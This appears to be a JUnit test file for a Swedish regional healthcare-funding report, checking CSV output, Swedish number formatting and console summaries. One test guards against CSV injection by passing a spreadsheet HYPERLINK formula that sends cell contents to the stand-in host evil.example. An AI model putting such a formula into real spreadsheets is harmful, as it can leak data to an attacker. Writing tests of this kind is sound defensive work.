package se.regionorebrolan.tillaggsbelopp.report;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import se.regionorebrolan.tillaggsbelopp.calculation.Calculation;
import se.regionorebrolan.tillaggsbelopp.format.SwedishFormat;

import static org.assertj.core.api.Assertions.assertThat;

class ReportTests {

	@TempDir
	Path folder;

	@Test
	void writesTheResultsFileWithItsContractHeaderAndWholeKronor() throws IOException {
		Path file = this.folder.resolve("results.csv");

		ResultsCsv.write(ReportFixture.calculation("Örebro", "Askersund"), file);

		assertThat(Files.readString(file, StandardCharsets.UTF_8)).isEqualTo("""
				municipality_code,municipality_name,somatic_sek,psychiatric_sek,advanced_sek,distance_sek,total_sek
				1880,Örebro,1000000,150000,75000,0,1225000
				1882,Askersund,500000,50000,25000,90000,665000
				""");
	}

	@Test
	void quotesANameWithACommaOrAQuoteInTheResultsFile() throws IOException {
		Path file = this.folder.resolve("results.csv");

		ResultsCsv.write(ReportFixture.calculation("Stad, norra", "Sägen \"X\""), file);

		assertThat(Files.readAllLines(file)).contains("1880,\"Stad, norra\",1000000,150000,75000,0,1225000",
				"1882,\"Sägen \"\"X\"\"\",500000,50000,25000,90000,665000");
	}

	/**
	 * OWASP "CSV injection": a name that Excel would take for a formula is written as
	 * quoted text with a single quote before it; the amounts stay numbers.
	 */
	@Test
	void writesANameThatWouldStartAFormulaAsTextInTheResultsFile() throws IOException {
		Path file = this.folder.resolve("results.csv");

		ResultsCsv.write(ReportFixture.calculation("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Klicka\")", "-2+3"),
				file);

		assertThat(Files.readAllLines(file)).containsExactly(String.join(",", ResultsCsv.HEADER),
				"1880,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Klicka\"\")\",1000000,150000,75000,0,1225000",
				"1882,\"'-2+3\",500000,50000,25000,90000,665000");
	}

	@ParameterizedTest(name = "{0} → \"{1}\"")
	@CsvSource(textBlock = """
			0,          0
			999,        999
			1000,       1 000
			15041639,   15 041 639
			-1234567,   −1 234 567
			2.5,        3
			""")
	void writesKronorTheSwedishWay(String amount, String expected) {
		assertThat(SwedishFormat.kronor(new BigDecimal(amount))).isEqualTo(expected);
	}

	@Test
	void writesDecimalsWithACommaAndHalfUp() {
		assertThat(SwedishFormat.decimal(new BigDecimal("1.2013786512"), 6)).isEqualTo("1,201379");
		assertThat(SwedishFormat.decimal(new BigDecimal("645000"), 2)).isEqualTo("645 000,00");
		assertThat(SwedishFormat.decimal(new BigDecimal("0.0000005"), 6)).isEqualTo("0,000001");
	}

	@Test
	void printsTheSummaryTableAndTheIntermediateValues() {
		Calculation calculation = ReportFixture.calculation("Örebro", "Askersund");

		assertThat(ConsoleSummary.lines(calculation)).containsExactly("Tilläggsbelopp för budgetåret 2025, kronor",
				"Kommun          Somatisk grund     Psykiatrisk       Avancerad         Avstånd          Totalt",
				"1880 Örebro          1 000 000         150 000          75 000               0       1 225 000",
				"1882 Askersund         500 000          50 000          25 000          90 000         665 000",
				"Länet                1 500 000         200 000         100 000          90 000       1 890 000");
		assertThat(ConsoleSummary.basisLines(calculation)).containsExactly("Underlag:",
				"  Uppräkning till 2025: från 2025 1,000000",
				"  Psykiatrisk hemsjukvård: medel för 2021, 2022 200 000,00 kr × 1,000000 = 200 000 kr",
				"  Avancerad hemsjukvård: 0,05 × 4 patienter i kategori 4 (mätning 2022-11-15) × 500 000 kr × 1,000000 = 100 000 kr",
				"  Avståndskompensation: 0,05 × 1 800 000 kr = 90 000 kr, till 1882 Askersund (mer än 35 km till sjukhus)");
	}

}
